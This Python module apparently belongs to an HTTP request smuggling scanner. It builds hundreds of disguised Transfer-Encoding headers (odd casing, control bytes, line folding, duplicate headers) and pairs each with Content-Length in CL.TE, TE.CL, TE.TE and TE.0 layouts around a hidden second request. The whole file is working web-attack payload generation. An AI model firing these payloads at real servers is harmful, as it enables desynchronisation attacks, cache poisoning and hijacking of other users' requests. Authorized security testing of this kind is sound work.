"""Transfer-Encoding in every disguise, alone and against a Content-Length."""

from __future__ import annotations

from collections.abc import Iterator

from smuggling_payload import HIDDEN, Named, chunked, head, shown, table

_NAME = b"Transfer-Encoding"
_ODD = [
    *table(
        r"\x00|\x01|\x08|\x0b|\x0c|\r|\n|\x1f|\x7f|\x80|\x85|\xa0|\xff|\x22|(|/",
    ),
]

NAMES = [
    *table(
        r"tRANSFER-eNCODING|Transfer_Encoding|Transfer Encoding|TransferEncoding|Transfer-\r\n Encoding",
        r"Transfer-Encoding\r\n |Transfer\xe2\x80\x90Encoding|Transfer%2dEncoding",
    ),
    _NAME,
    _NAME.lower(),
    _NAME.upper(),
    b" " + _NAME,
    b"\t" + _NAME,
    _NAME + b" ",
    _NAME + b"\t",
    b"X: y\r\n " + _NAME,
    b"X: y\n" + _NAME,
    b"X: y\r" + _NAME,
    b"X: y\n\n" + _NAME,
    b"X: y\r\n\n" + _NAME,
    b"X-" + _NAME,
    _NAME + b"-X",
    b"Trailer: x\r\n" + _NAME,
    b"TE: chunked\r\n" + _NAME,
    *(odd + _NAME for odd in _ODD),
    *(_NAME + odd for odd in _ODD),
]
SEPARATORS = [
    *table(
        r":|: |:\t|: \t |:  |:\x0b|:\x0c|:\x00|:\xa0|:\x85|:\r\n |:\r\n\t|:\n |:\r | :|\t:| : |::|=| |\x00:",
        r"\xef\xbc\x9a|:\r\n\r\n ",
    ),
]
VALUES = [
    *table(
        r"chunked|Chunked|CHUNKED|cHuNkEd| chunked|\tchunked|chunked |chunked\t|chunked \t |\x22chunked\x22|'chunked'",
        r"[chunked]|(chunked)|<chunked>|xchunked|x chunked|chunkedx|chunked x|chunked, identity|identity, chunked",
        r"identity|identity,chunked|chunked,chunked|chunked, chunked|gzip, chunked|chunked, gzip|deflate,chunked|gzip",
        r"br, chunked|chunked;q=1|chunked; q=0.5|chunked;|chunked,|,chunked|, chunked|chunked,,|chunk|chunke|cow",
        r"cow, chunked|chunked, cow||0|c h u n k e d|chun\x00ked|chun\rked|chun\nked|chun\r\n ked|chunked\r\n ",
        r"\r\n chunked|\r\n\tchunked|identity\r\n chunked|chunked\r\n identity|chunked\r\n\t, identity|%63hunked",
        r"=?utf-8?q?chunked?=|\\chunked|chun\xc5\xbfed|chun\xe2\x84\xaaed|\xef\xbb\xbfchunked",
        r"chunked\r\nTransfer-Encoding: identity|identity\r\nTransfer-Encoding: chunked",
        r"chunked\r\nTransfer-Encoding: chunked|\r\nTransfer-Encoding: chunked|chunked\r\ntransfer-encoding:",
        r"x\r\nTRANSFER-ENCODING: chunked",
    ),
    b"chunked" + b" " * 4000,
    b" " * 4000 + b"chunked",
    *(odd + b"chunked" for odd in _ODD),
    *(b"chunked" + odd for odd in _ODD),
]
DISGUISES = list(
    dict.fromkeys(
        [
            *(name + b": chunked" for name in NAMES),
            *(_NAME + separator + b"chunked" for separator in SEPARATORS),
            *(_NAME + b": " + value for value in VALUES),
        ]
    )
)


def codings() -> Iterator[Named]:
    """Each disguise: with the length that covers all (CL.TE), with one that covers the first line of chunks (TE.CL), alone, and
    beside a coding that everybody understands (TE.TE), in either order."""
    whole = chunked() + HIDDEN
    inside = chunked(HIDDEN)
    first_line = inside.index(b"\r\n") + 2
    plain = b"Transfer-Encoding: chunked"
    for disguise in DISGUISES:
        name = shown(disguise)
        yield f"CL.TE {name}", head(b"Content-Length: %d" % len(whole), disguise) + whole
        yield f"CL.TE, coding first {name}", head(disguise, b"Content-Length: %d" % len(whole)) + whole
        yield f"TE.CL {name}", head(disguise, b"Content-Length: %d" % first_line) + inside
        yield f"TE alone {name}", head(disguise) + whole
        yield f"TE.TE {name}", head(plain, disguise) + whole
        yield f"TE.TE, disguise first {name}", head(disguise, plain) + whole
        yield f"TE.0 {name}", head(disguise, b"Content-Length: 0") + inside
